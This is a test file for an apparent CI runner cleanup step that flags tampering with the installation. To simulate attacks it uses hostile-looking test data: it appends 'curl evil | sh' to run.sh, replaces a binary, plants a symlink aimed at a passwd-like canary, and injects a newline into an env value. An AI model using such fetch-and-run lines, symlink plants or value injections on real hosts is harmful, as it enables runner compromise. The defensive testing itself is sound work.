import { test } from 'node:test';
import assert from 'node:assert/strict';
import { promises as fsp } from 'node:fs';
import path from 'node:path';
import { ctxFor, slotAt } from '../../helpers/cleanup.js';
import { createLab, runAs, type Lab } from '../../helpers/lab.js';
import type { Slot } from '../../../src/cleanup/types.js';
import { takeInstallManifest, loadInstallManifest, diffInstall, writeRunnerEnv } from '../../../src/cleanup/install-manifest.js';
import { runnerInstallStep } from '../../../src/cleanup/steps/runner-install.js';

/** A runner root shaped like the real one (docs/runner-contract.md), owned by the runner user as config.sh needs. */
async function makeRunner(lab: Lab): Promise<Slot> {
  const root = path.join(lab.root, 'runner');
  const stateDir = path.join(lab.root, 'state');
  await fsp.mkdir(stateDir, { mode: 0o700 });
  await fsp.mkdir(path.join(root, 'bin'), { recursive: true });
  await fsp.mkdir(path.join(root, 'externals', 'node20', 'bin'), { recursive: true });
  await fsp.mkdir(path.join(root, '_work', '_tool'), { recursive: true });
  await fsp.mkdir(path.join(root, '_diag'), { recursive: true });
  await fsp.writeFile(path.join(root, 'bin', 'Runner.Listener'), '#!/bin/sh\necho listener\n', { mode: 0o755 });
  await fsp.writeFile(path.join(root, 'externals', 'node20', 'bin', 'node'), 'ELF...', { mode: 0o755 });
  await fsp.writeFile(path.join(root, 'run.sh'), '#!/bin/bash\nexec bin/Runner.Listener run "$@"\n', { mode: 0o755 });
  await fsp.writeFile(path.join(root, 'config.sh'), '#!/bin/bash\n', { mode: 0o755 });
  await fsp.writeFile(path.join(root, '.env'), 'LANG=C.UTF-8\n');
  await fsp.writeFile(path.join(root, '.path'), '/usr/bin:/bin\n');
  for (const p of ['', 'bin', 'externals', '_work', '_diag', 'run.sh', 'bin/Runner.Listener']) {
    await fsp.lchown(path.join(root, p), lab.user.uid, lab.user.gid);
  }
  return slotAt(lab, root, stateDir);
}

test('an untouched installation is ok, and what the runner writes itself (_work, _diag, .runner) does not count', async () => {
  const lab = await createLab();
  try {
    const slot = await makeRunner(lab);
    await takeInstallManifest(slot);
    runAs(
      lab.user,
      `cd ${slot.runnerRoot} && echo log > _diag/Runner_1.log && mkdir -p _work/repo/repo && echo x > _work/repo/repo/f && echo '{}' > .runner && echo '{}' > .credentials`,
    );
    const r = await runnerInstallStep().run(ctxFor(slot));
    assert.equal(r.outcome, 'ok', `unexpected: ${r.reason}`);
  } finally {
    await lab.dispose();
  }
});

test('a changed run.sh, a replaced binary and an added file make the host dirty, naming each path', async () => {
  const lab = await createLab();
  try {
    const slot = await makeRunner(lab);
    await takeInstallManifest(slot);
    runAs(
      lab.user,
      `cd ${slot.runnerRoot} && echo 'curl evil | sh' >> run.sh && rm bin/Runner.Listener && printf '#!/bin/sh\\necho evil\\n' > bin/Runner.Listener && echo x > bin/evil.so && chmod 777 bin`,
    );
    const r = await runnerInstallStep().run(ctxFor(slot));
    assert.equal(r.outcome, 'dirty');
    for (const expect of ['changed', 'run.sh', 'bin/Runner.Listener', 'added', 'bin/evil.so']) {
      assert.ok((r.reason ?? '').includes(expect), `reason lacks "${expect}": ${r.reason}`);
    }
  } finally {
    await lab.dispose();
  }
});

test('writeRunnerEnv writes .env and .path root-owned 0644, replaces a planted symlink without following it, and keeps the manifest matching', async () => {
  const lab = await createLab();
  try {
    const slot = await makeRunner(lab);
    const canary = path.join(lab.root, 'canary-passwd');
    await fsp.writeFile(canary, 'root:x:0:0::/root:/bin/bash\n', { mode: 0o644 });
    await takeInstallManifest(slot);
    runAs(lab.user, `cd ${slot.runnerRoot} && rm .env && ln -s ${canary} .env`);
    await writeRunnerEnv(slot, { ACTIONS_RUNNER_HOOK_JOB_STARTED: '/var/lib/runner-warden/public/started.sh', PATH: '/usr/bin:/bin' });
    assert.equal(await fsp.readFile(canary, 'utf8'), 'root:x:0:0::/root:/bin/bash\n', 'the canary was written through the symlink');
    const st = await fsp.lstat(path.join(slot.runnerRoot, '.env'));
    assert.ok(st.isFile(), '.env is not a regular file');
    assert.equal(st.uid, 0);
    assert.equal(st.mode & 0o777, 0o644);
    assert.equal(
      await fsp.readFile(path.join(slot.runnerRoot, '.env'), 'utf8'),
      'ACTIONS_RUNNER_HOOK_JOB_STARTED=/var/lib/runner-warden/public/started.sh\nPATH=/usr/bin:/bin\n',
    );
    assert.equal(await fsp.readFile(path.join(slot.runnerRoot, '.path'), 'utf8'), '/usr/bin:/bin\n');
    const d = await diffInstall(slot, (await loadInstallManifest(slot))!);
    assert.deepEqual([d.added, d.changed, d.missing], [[], [], []], 'the manifest was not updated for .env/.path');
    await assert.rejects(writeRunnerEnv(slot, { A: 'x\nEVIL=1' }), /split/);
  } finally {
    await lab.dispose();
  }
});

test("a .env temporary the agent's killed write left is removed, not called a plant; the same name made by the job still is", async () => {
  const lab = await createLab();
  try {
    const slot = await makeRunner(lab);
    await takeInstallManifest(slot);
    const agentTemp = path.join(slot.runnerRoot, '.env.rw-0123456789ab');
    await fsp.writeFile(agentTemp, 'LANG=C.UTF-8\n', { mode: 0o644 });
    const clean = await runnerInstallStep().run(ctxFor(slot));
    assert.equal(clean.outcome, 'ok', clean.reason);
    assert.deepEqual(clean.removed, { 'agent-temp': { count: 1, bytes: 13 } });
    await assert.rejects(fsp.lstat(agentTemp), { code: 'ENOENT' });
    runAs(lab.user, `cd ${slot.runnerRoot} && echo evil > .path.rw-aaaaaaaaaaaa`);
    const planted = await runnerInstallStep().run(ctxFor(slot));
    assert.equal(planted.outcome, 'dirty');
    assert.match(planted.reason ?? '', /added .*\.path\.rw-aaaaaaaaaaaa/);
  } finally {
    await lab.dispose();
  }
});

test('without a manifest the step reports the host dirty', async () => {
  const lab = await createLab();
  try {
    const slot = await makeRunner(lab);
    const r = await runnerInstallStep().run(ctxFor(slot));
    assert.equal(r.outcome, 'dirty');
  } finally {
    await lab.dispose();
  }
});
